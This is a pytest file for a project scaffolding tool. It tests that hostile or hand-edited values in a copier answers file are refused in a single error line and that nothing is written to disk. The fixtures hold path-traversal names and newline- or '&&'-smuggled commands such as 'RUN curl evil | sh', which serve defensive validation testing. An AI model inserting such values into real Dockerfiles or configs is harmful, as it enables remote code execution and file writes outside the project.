"""What ``check`` and ``update`` read back from ``.copier-answers.yml`` passes the checks ``new``
applies: a hand-edited or hostile answers file is one line naming the file and the key, exit 2,
and nothing written anywhere."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from scaffold import __version__
from scaffold.create.new import NewOptions, new_project
from scaffold.create.render import ANSWERS_FILE
from tests.conftest import Cli, tree_bytes


@pytest.fixture
def project(tmp_path: Path) -> Path:
    report = new_project(
        NewOptions(
            name="my-api", parent=tmp_path / "projects", python="3.11", lock=False, git=False
        )
    )
    return Path(report.path)


def record(project: Path, **answers: object) -> None:
    path = project / ANSWERS_FILE
    data = yaml.safe_load(path.read_text())
    data.update(answers)
    path.write_text(yaml.safe_dump(data))


def outside(tmp_path: Path) -> Path:
    return tmp_path / "outside" / "x"


def escaping(project: Path, target: Path) -> str:
    """A package name that climbs from the project's ``src/`` to the root, then down to
    ``target``: ``../../../../tmp/.../x``."""
    ups = len((project / "src").resolve().parts) - 1
    return "../" * ups + target.as_posix().lstrip("/")


def hostile(project: Path, tmp_path: Path) -> list[tuple[str, object]]:
    return [
        ("package_name", escaping(project, outside(tmp_path))),
        ("package_name", "my_api/../../x"),
        ("package_name", "my-api"),
        ("project_name", "my-api/../../x"),
        ("project_name", ".."),
        ("project_name", "my-api\nRUN curl evil | sh"),
        ("project_name", "My-Api"),
        ("python_version", "3.12\nRUN x"),
        ("python_version", "2.7"),
        ("description", "two\nlines"),
        ("author", "bell\x07"),
        ("dependencies", ['x>=1,<2; python_version < "3.12\\n"']),
        ("dependencies", ["requests>=2,<3\n[tool.evil]"]),
        ("dependencies", "requests>=2,<3"),
        ("apt_runtime", ["libpq5 && curl evil | sh"]),
        ("apt_build", ["gcc\n"]),
        ("python_image", "python:3.12-slim\nRUN curl evil | sh"),
        ("uv_image", "ghcr.io/astral-sh/uv:0.13.9 \\"),
        ("uv_version", "0.13.9\nRUN x"),
        ("debian_release", "sid"),
    ]


def one_error_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    return lines[0]


def test_every_hostile_answer_read_back_is_refused_and_nothing_is_written(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    pristine = (project / ANSWERS_FILE).read_text()
    for key, value in hostile(project, tmp_path):
        (project / ANSWERS_FILE).write_text(pristine)
        record(project, **{key: value})
        before = tree_bytes(tmp_path)

        checked = cli("check", project, "--json")
        assert checked.code == 2, (key, value, checked)
        message = json.loads(checked.stdout)["projects"][0]["message"]
        assert f"'{key}'" in message, message
        assert ANSWERS_FILE in message
        assert "\n" not in message

        for extra in ((), ("--data", "project_name=other-api")):
            updated = cli("update", project, "--to", __version__, "--offline", *extra)
            assert updated.code == 2, (key, value, extra, updated)
            line = one_error_line(updated.stderr)
            assert line.startswith(f"error: {project / ANSWERS_FILE}: '{key}'"), line

        assert tree_bytes(tmp_path) == before, (key, value)
        assert not outside(tmp_path).exists()


def test_a_package_name_out_of_the_project_is_named_in_one_line(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    name = escaping(project, outside(tmp_path))
    record(project, package_name=name)
    before = tree_bytes(project)
    # A changed answer makes the template's files differ: before the check, this update
    # wrote the package's files under the outside folder.
    result = cli("update", project, "--to", __version__, "--data", "project_name=other-api")
    assert result.code == 2, result
    assert one_error_line(result.stderr) == (
        f"error: {project / ANSWERS_FILE}: 'package_name': '{name[:40]}...{name[-10:]}' is not "
        "a Python package name (snake_case, such as 'my_api')"
    )
    assert not outside(tmp_path).exists()
    assert not outside(tmp_path).parent.exists()
    assert tree_bytes(project) == before


def test_the_answers_new_wrote_read_back_as_they_were(cli: Cli, project: Path) -> None:
    assert cli("check", project).code == 0
    result = cli("update", project, "--to", __version__, "--offline")
    assert result.code == 0, result
    assert "nothing to change" in result.stdout


def test_an_update_that_changes_an_answer_checks_it(cli: Cli, project: Path) -> None:
    result = cli("update", project, "--to", __version__, "--data", "python_image=x\nRUN y")
    assert result.code == 2, result
    assert "--data: 'python_image'" in one_error_line(result.stderr)
